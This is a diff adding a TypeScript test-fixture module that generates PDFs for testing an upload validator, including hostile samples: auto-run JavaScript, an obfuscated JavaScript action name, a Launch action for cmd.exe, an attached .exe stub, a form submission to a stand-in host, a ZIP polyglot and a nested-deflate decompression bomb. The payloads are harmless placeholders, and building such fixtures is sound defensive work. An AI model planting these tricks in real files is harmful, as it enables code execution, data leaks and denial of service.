@@ -1,0 +1,96 @@
+import { deflateSync } from 'node:zlib'
+import { type PDFContext, PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from 'pdf-lib'
+
+/** A4 pages with a line of text each. `prepare` adds what a hostile or a clumsy one has more. */
+export async function aPdf({
+  pages = 1,
+  prepare,
+}: {
+  pages?: number
+  prepare?: (pdf: PDFDocument) => unknown
+} = {}): Promise<Buffer> {
+  const pdf = await PDFDocument.create({ updateMetadata: false })
+  const font = await pdf.embedFont(StandardFonts.Helvetica)
+  for (let number = 1; number <= pages; number++) {
+    pdf.addPage([595, 842]).drawText(`Extrait d'acte de deces, page ${number}`, { x: 60, y: 760, size: 14, font })
+  }
+  await prepare?.(pdf)
+  return Buffer.from(await pdf.save())
+}
+
+/** One that weighs so many bytes, whatever compresses it. */
+export function aHeavyPdf(bytes: number): Promise<Buffer> {
+  return aPdf({
+    prepare: (pdf) => {
+      const grain = new Uint8Array(bytes)
+      for (let at = 0; at < bytes; at += 65_536) crypto.getRandomValues(grain.subarray(at, at + 65_536))
+      pdf.context.register(pdf.context.stream(grain))
+    },
+  })
+}
+
+const action = (context: PDFContext, kind: string, more: object = {}) => context.obj({ S: kind, ...more } as never)
+const onOpening = (build: (context: PDFContext) => ReturnType<typeof action>) => (pdf: PDFDocument) =>
+  pdf.catalog.set(PDFName.of('OpenAction'), build(pdf.context))
+
+/** Each asks for a sentence of its own, or for none. */
+export const pdfs = {
+  plain: () => aPdf(),
+  'of fifty pages': () => aPdf({ pages: 50 }),
+  'that opens at a page': () => aPdf({ prepare: onOpening((context) => action(context, 'GoTo', { D: [0, 'Fit'] })) }),
+  'of 51 pages': () => aPdf({ pages: 51 }),
+  'with a script': () =>
+    aPdf({ prepare: onOpening((context) => action(context, 'JavaScript', { JS: PDFString.of('app.alert(1)') })) }),
+  'with a script of the document': () => aPdf({ prepare: (pdf) => pdf.addJavaScript('main', 'app.alert(1)') }),
+  'with a script whose name is disguised': async () => {
+    const clear = await uncompressed(onOpening((context) => action(context, 'Javascrip7', { D: PDFString.of('') })))
+    return Buffer.from(clear.toString('latin1').replace('/Javascrip7', '/J#61vaScript'), 'latin1')
+  },
+  'that launches a program': () =>
+    aPdf({ prepare: onOpening((context) => action(context, 'Launch', { F: PDFString.of('cmd.exe') })) }),
+  'with a file attached': () =>
+    aPdf({ prepare: (pdf) => pdf.attach(Buffer.from('MZ'), 'facture.exe', { mimeType: 'application/octet-stream' }) }),
+  'that sends a form away': () =>
+    aPdf({
+      prepare: onOpening((context) => action(context, 'SubmitForm', { F: PDFString.of('https://collecte.example') })),
+    }),
+  'with a password': encrypted,
+  'cut in its middle': async () => (await aPdf({ pages: 20 })).subarray(0, 4000),
+  'of garbage': async () =>
+    Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(3000, 'zq\n'), Buffer.from('%%EOF')]),
+  'without a page': async () =>
+    Buffer.from('%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n', 'latin1'),
+  'whose pages turn round': async () =>
+    Buffer.from(
+      '%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Count 1/Kids[2 0 R]>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n',
+      'latin1',
+    ),
+  'after something else': async () => Buffer.concat([Buffer.from('\n\nReçu de la mairie\n'), await aPdf()]),
+  'that is a ZIP too': async () => Buffer.concat([await aPdf(), emptyZip]),
+  'that unfolds without end': () =>
+    aPdf({
+      prepare: (pdf) => {
+        const folded = deflateSync(deflateSync(Buffer.alloc(900_000_000)))
+        const stream = pdf.context.stream(folded, { Filter: ['FlateDecode', 'FlateDecode'] })
+        pdf.getPage(0).node.set(PDFName.of('Contents'), pdf.context.register(stream))
+      },
+    }),
+}
+
+export const emptyZip = Buffer.from(`PK\x05\x06${'\0'.repeat(18)}`, 'latin1')
+
+const uncompressed = async (prepare: (pdf: PDFDocument) => unknown): Promise<Buffer> => {
+  const pdf = await PDFDocument.load(await aPdf({ prepare }))
+  return Buffer.from(await pdf.save({ useObjectStreams: false }))
+}
+
+/** As any writer encrypts: objects stand in clear, texts and streams do not. The keys themselves do not matter here. */
+async function encrypted(): Promise<Buffer> {
+  const pdf = await PDFDocument.load(await aPdf())
+  const hash = PDFHexString.of('5A'.repeat(32))
+  pdf.context.trailerInfo.Encrypt = pdf.context.register(
+    pdf.context.obj({ Filter: 'Standard', V: 2, R: 3, Length: 128, P: -3904, O: hash, U: hash } as never),
+  )
+  pdf.context.trailerInfo.ID = pdf.context.obj([hash, hash])
+  return Buffer.from(await pdf.save({ useObjectStreams: false }))
+}
